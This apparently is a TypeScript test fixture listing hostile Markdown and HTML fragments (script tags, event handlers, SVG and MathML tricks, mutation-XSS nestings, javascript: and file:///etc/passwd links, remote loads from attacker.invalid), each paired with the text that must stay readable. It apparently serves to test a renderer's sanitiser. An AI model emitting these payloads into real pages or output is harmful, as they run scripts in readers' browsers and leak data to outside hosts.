/** Something a model could write to harm its reader. */
export interface HostileFragment {
	readonly text: string;
	/** What of it must be readable on the page; `undefined`: what is left is harmless and formatted. */
	readonly shows: string | undefined;
}

/** Fragments whose first line must be readable as it is written. */
export function visible(...texts: readonly string[]): HostileFragment[] {
	return texts.map((text) => ({ text, shows: text.split("\n", 1)[0] ?? "" }));
}

export function shows(text: string, expected: string | undefined): HostileFragment {
	return { text, shows: expected };
}

const remote = "http://attacker.invalid";

/** By class. A script that runs calls `pwned()`; whatever loads something asks attacker.invalid. */
export const hostileMarkdown: Readonly<Record<string, readonly HostileFragment[]>> = {
	scripts: visible(
		"<script>pwned()</script>",
		"text <script>pwned()</script> text",
		`<script src="${remote}/x.js"></script>`,
		"<SCRIPT type=module>pwned()</SCRIPT>",
		"<script\n>pwned()</script\n>",
		"<scr<script>ipt>pwned()</scr</script>ipt>",
		"<script/x>pwned()</script>",
		'<noscript><p title="</noscript><img src=x onerror=pwned()>">',
	),
	"event handlers": visible(
		"<b onclick=pwned()>x</b>",
		"<img src=x onerror=pwned()>",
		"<img src=x onerror=pwned()//",
		"<img/src=x/onerror=pwned()>",
		'<a href="https://example.com" onmouseover="pwned()">x</a>',
		"<details open ontoggle=pwned()>x</details>",
		"<div onpointerrawupdate=pwned() oncontentvisibilityautostatechange=pwned()>x</div>",
		"<p onanimationstart=pwned() class=md-code>x</p>",
		"<br ONLOAD=pwned()>",
		"<kbd autofocus tabindex=0 onfocus=pwned()>x</kbd>",
	),
	SVG: visible(
		"<svg onload=pwned()></svg>",
		"<svg><script>pwned()</script></svg>",
		"<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
		'<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></use></svg>',
		'<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
		`<svg><image href="${remote}/x.png"/></svg>`,
		"<svg><style>*{background:url(//attacker.invalid/a)}</style></svg>",
	),
	MathML: visible(
		'<math href="javascript:pwned()">x</math>',
		'<math><maction actiontype="statusline#http://attacker.invalid" xlink:href="javascript:pwned()">x</maction></math>',
		"<math><annotation-xml encoding=text/html><img src=x onerror=pwned()></annotation-xml></math>",
	),
	"nesting that mutates": visible(
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
		'<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
		"<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
		"<noembed><noembed></noembed><img src=x onerror=pwned()>",
		'<xmp><p title="</xmp><img src=x onerror=pwned()>">',
		"<textarea></textarea><img src=x onerror=pwned()>",
		"<select><option><style></select><img src=x onerror=pwned()>",
		"<template><img src=x onerror=pwned()></template>",
		"<template shadowrootmode=open><script>pwned()</script></template>",
		"<![CDATA[<img src=x onerror=pwned()>]]>",
		"<!--><img src=x onerror=pwned()>-->",
		"<!--!><img src=x onerror=pwned()>",
		"<? <img src=x onerror=pwned()> ?>",
		'<title><a title="</title><img src=x onerror=pwned()>">',
		"<table><tr><td><a href=x onclick=pwned()>",
	).map(({ text, shows: source }) => ({
		text,
		shows: source?.startsWith("<table>") === true ? "<a href=x onclick=pwned()>" : source,
	})),
	"addresses that run": [
		...["javascript:pwned()", "JaVaScRiPt:pwned()", "command:workbench.action.quit"].flatMap(
			(target) => [shows(`[x](${target})`, target), shows(`<a href="${target}">x</a>`, target)],
		),
		shows("[x](java&#115;cript:pwned&#40;&#41;)", "javascript:pwned()"),
		shows('<a href="&#x6A;avascript:pwned()">x</a>', "javascript:pwned()"),
		shows('<a href="java\tscript:pwned()">x</a>', "x"),
		shows("<javascript:pwned()>", "javascript:pwned()"),
		shows("[x](<data:text/html,<script>pwned()</script>>)", "data:text/html"),
		shows("[x]: javascript:pwned()\n\n[x]", "javascript:pwned()"),
		shows("[x](vscode://file/etc/passwd)", "vscode://file/etc/passwd"),
		shows("[x](file:///etc/passwd)", "file:///etc/passwd"),
		shows("[x](vbscript:pwned())", "vbscript:pwned()"),
		shows("[x](//attacker.invalid/a)", "//attacker.invalid/a"),
		shows('[x](https://example.com "\\" onmouseover=pwned() \\"")', "x"),
		shows('[x](https://example.com/"onclick=pwned())', "x"),
	],
	"style sheets": visible(
		`<style>@import url("${remote}/x.css"); * { background: url(${remote}/a) }</style>`,
		`<div style="background:url(${remote}/a)">x</div>`,
		"<p style=position:fixed;inset:0>x</p>",
		`<link rel=stylesheet href=${remote}/x.css>`,
		`<table background="${remote}/a">x`,
		`<font face="x" color=red>x</font>`,
	),
	"document and navigation": visible(
		`<meta http-equiv=refresh content="0;url=${remote}">`,
		`<base href="${remote}/">`,
		`<link rel=prefetch href="${remote}/a">`,
		`<body onload=pwned() background="${remote}/a">`,
		`<html manifest="${remote}/a">`,
		"<head><title>x</title></head>",
		`<frameset onload=pwned()><frame src="${remote}"></frameset>`,
		"<dialog open>x</dialog>",
		"<slot name=x></slot>",
		"<x-element is=x>x</x-element>",
	),
	"forms and fields": visible(
		`<form action="${remote}"><input name=x value=y></form>`,
		"<button formaction=javascript:pwned()>Send</button>",
		`<input type=image src="${remote}/a">`,
		"<input type=checkbox autofocus onfocus=pwned()>",
		"<select onchange=pwned()><option>x</option></select>",
		"<textarea autofocus onfocus=pwned()>x</textarea>",
		"<label for=composer>x</label>",
	),
	"frames and plug-ins": visible(
		`<iframe src="${remote}"></iframe>`,
		'<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
		`<object data="${remote}/a"></object>`,
		`<embed src="${remote}/a">`,
		"<portal src=javascript:pwned()></portal>",
		`<fencedframe src="${remote}"></fencedframe>`,
	),
	"remote images, media and fonts": [
		shows(`![alt](${remote}/a.png)`, "alt"),
		shows(`![](${remote}/a.png)`, `${remote}/a.png`),
		shows(`![x][r]\n\n[r]: ${remote}/a.png`, "x"),
		shows(`<img src="${remote}/a.png" alt="words">`, "words"),
		shows("![x](data:image/svg+xml,<svg/onload=pwned()>)", "data:image/svg+xml"),
		shows("![x](javascript:pwned())", "javascript:pwned()"),
		shows(`[![in a link](${remote}/a.png)](https://example.com)`, "in a link"),
		...visible(
			`<img srcset="${remote}/a.png 2x" alt=x>`,
			`<picture><source srcset="${remote}/a.png"></picture>`,
			`<video src="${remote}/a" autoplay onerror=pwned()></video>`,
			`<video poster="${remote}/a"></video>`,
			`<audio src="${remote}/a" autoplay></audio>`,
			`<track src="${remote}/a">`,
			`<input type=image src=${remote}/a>`,
		),
	],
	"borrowed names": [
		shows('<p id="composer" class="codicon" name="body">x</p>', undefined),
		shows('<a id=document name=cookie href="https://example.com">x</a>', undefined),
		shows('<pre data-code="ts">x</pre>', '<pre data-code="ts">'),
		shows("<span data-task=x></span>", "<span data-task=x>"),
		shows('<a data-href="command:x">x</a>', '<a data-href="command:x">'),
		shows("<button data-action=insert>x</button>", "<button data-action=insert>"),
		shows("<div role=log aria-live=assertive>x</div>", "<div role=log aria-live=assertive>"),
		shows("<b contenteditable>x</b>", "<b contenteditable>"),
	],
	"inside Markdown": [
		shows("# <img src=x onerror=pwned()>", "<img src=x onerror=pwned()>"),
		shows("- <svg onload=pwned()>", "<svg onload=pwned()>"),
		shows("> <script>pwned()</script>", "<script>pwned()</script>"),
		shows("| <img src=x onerror=pwned()> |\n|---|\n| <b onclick=pwned()> |", "<b onclick=pwned()>"),
		shows("```<img src=x onerror=pwned()>\ncode\n```", "code"),
		shows(
			'```"><img/src=x/onerror=pwned()>\n</code></pre><script>pwned()</script>\n```',
			"<script>pwned()",
		),
		shows("`<img src=x onerror=pwned()>`", "<img src=x onerror=pwned()>"),
		shows("**<img src=x onerror=pwned()>**", "<img src=x onerror=pwned()>"),
		shows("[<img src=x onerror=pwned()>](https://example.com)", "<img src=x onerror=pwned()>"),
		shows("![<img src=x onerror=pwned()>](https://example.com)", "<img src=x onerror=pwned()>"),
		shows("&lt;img src=x onerror=pwned()&gt;", "<img src=x onerror=pwned()>"),
		shows("<kbd><img src=x onerror=pwned()></kbd>", "<img src=x onerror=pwned()>"),
		shows("<pre><script>pwned()</script></pre>", "<script>pwned()</script>"),
		shows("<details>\n\n<script>pwned()</script>\n\n</details>", "<script>pwned()</script>"),
		shows("    <script>pwned()</script>", "<script>pwned()</script>"),
		shows("[x]: https://example.com '<img src=x onerror=pwned()>'\n\n[x]", "x"),
	],
};
